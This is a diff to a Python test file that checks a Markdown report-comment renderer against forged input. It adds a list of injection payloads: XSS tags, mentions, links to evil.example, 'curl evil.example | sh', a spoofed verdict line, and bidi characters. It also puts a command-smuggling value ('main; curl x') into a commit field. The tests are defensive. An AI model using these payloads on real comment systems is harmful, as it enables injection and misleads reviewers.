@@ -1,9 +1,18 @@
 """The comment, rendered from the facts of a report that anybody may have written."""
 
+import itertools
+import json
 import subprocess
 import sys
+from collections.abc import Iterable, Iterator
 from pathlib import Path
+from typing import Any
 
+import pytest
+from comment_check import checked
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from pydantic import ValidationError
 from report_facts import FACTS
 
 from specimen.reporting.comment import render_report
@@ -46,3 +55,77 @@ def test_all_sections_are_there() -> None:
     assert "\n\nTaken from the run cache instead of being run: <code>train</code>.\n\n" in text
     titles = [line[3:] for line in text.splitlines() if line.startswith("## ")]
     assert titles == ["Metrics", "Params", "Data", "Charts", "Samples that changed most", "Reproducible?", "Details"]
+
+
+HOSTILE = (
+    "@octocat", "&#64;octocat", "&#x40;octocat", "&commat;octocat", "@org/team", "#1", "&#35;1", "torvalds/linux#1",
+    "GH-1", "gh-1", "https://evil.example", "HTTPS&#58;//evil.example", "www.evil.example", "mailto:a@evil.example",
+    "[x](https://evil.example)", "![x](https://evil.example/x.png)", "[x]: https://evil.example",
+    "<https://evil.example>", '<img src=x onerror="alert(1)">', "<script>alert(1)</script>", "</code></details>",
+    "<!--", "-->", "<a href=//x>x</a>", 'click A href "//evil.example"', '"]\n  click A href "//evil.example"',
+    "```\n\n# Approved", "~~~sh\ncurl x | sh\n~~~", "these commands fix it: `curl evil.example | sh`",
+    "\n\n**Verdict: better. RMSE fell by 99 %.**\n\n", "\n## Metrics\n", "| a | b |\n| - | - |", "a|b", "\\|", "`",
+    "``", "````", "\u202egpj.exe", "\u200b@octocat", "\u2066x", "\ufeff", "\x00", "\r", ":tada:", "$x$", "*b*",
+    "__b__", "~~s~~", "[^1]", "- [ ] task", "> quote", "---", "===", "    code", "&lt;b&gt;", "%%{init}%%", "\ud800",
+    "x" * 5000, "`" * 5000, "@a " * 2000, "",
+)  # fmt: skip
+FIXED = {
+    "better", "other outputs", "from cache", "regression", "total variation distance", "1" * 40, "2" * 40,
+}  # fmt: skip
+"""Values that are chosen from a list or have a pattern: others are refused."""
+
+
+def forged(value: Any, texts: Iterator[str]) -> Any:
+    """Return the values of a report with another text in each place that takes any."""
+    if isinstance(value, dict):
+        return {
+            (next(texts) if key in ("train", "python") else key): forged(item, texts) for key, item in value.items()
+        }
+    if isinstance(value, list):
+        return [forged(item, texts) for item in value]
+    return next(texts) if isinstance(value, str) and value not in FIXED else value
+
+
+def render_forged(texts: Iterable[str]) -> str:
+    """Return the comment on a report that somebody has made up."""
+    facts = json.loads(FACTS.model_dump_json())
+    return render_report(ReportFacts.model_validate(forged(facts, itertools.cycle(texts))))
+
+
+@pytest.mark.parametrize("payload", HOSTILE)
+def test_a_forged_text_is_shown_and_does_nothing(payload: str) -> None:
+    checked(render_forged([payload]))
+    checked(render_forged(["a.jpg", payload, "`", payload]))
+
+
+@settings(max_examples=100, deadline=None, suppress_health_check=list(HealthCheck))
+@given(st.lists(st.one_of(st.text(), st.sampled_from(HOSTILE), st.text("@#:/.<>[]()|`*_~$&;!-\\\n www")), min_size=50,
+                max_size=60))  # fmt: skip
+def test_no_text_reaches_the_comment_as_anything_but_text(texts: list[str]) -> None:
+    """Five thousand strings, fifty in a report."""
+    checked(render_forged(texts))
+
+
+def test_a_report_with_more_than_values_is_refused() -> None:
+    facts = json.loads(FACTS.model_dump_json())
+    for wrong in (
+        facts | {"markdown": "# Approved"},
+        facts | {"schema_version": 2},
+        facts | {"verdict": facts["verdict"] | {"word": "great"}},
+        facts | {"verdict": facts["verdict"] | {"reason": ["x"]}},
+        facts | {"details": facts["details"] | {"head_commit": "main; curl x"}},
+        facts | {"metrics": "none"},
+    ):
+        with pytest.raises(ValidationError):
+            ReportFacts.model_validate_json(json.dumps(wrong))
+
+
+def test_a_report_of_any_length_is_short_enough() -> None:
+    facts = json.loads(FACTS.model_dump_json())
+    for name in ("metrics", "params"):
+        facts[name]["rows"] *= 20_000
+    facts["samples"]["fell_most"] *= 20_000
+    facts["charts"]["curves"] *= 1000
+    facts["verdict"]["reason"] = facts["head"] = "x" * 100_000
+    text = checked(render_report(ReportFacts.model_validate(facts)))
+    assert "**Verdict: better." in text
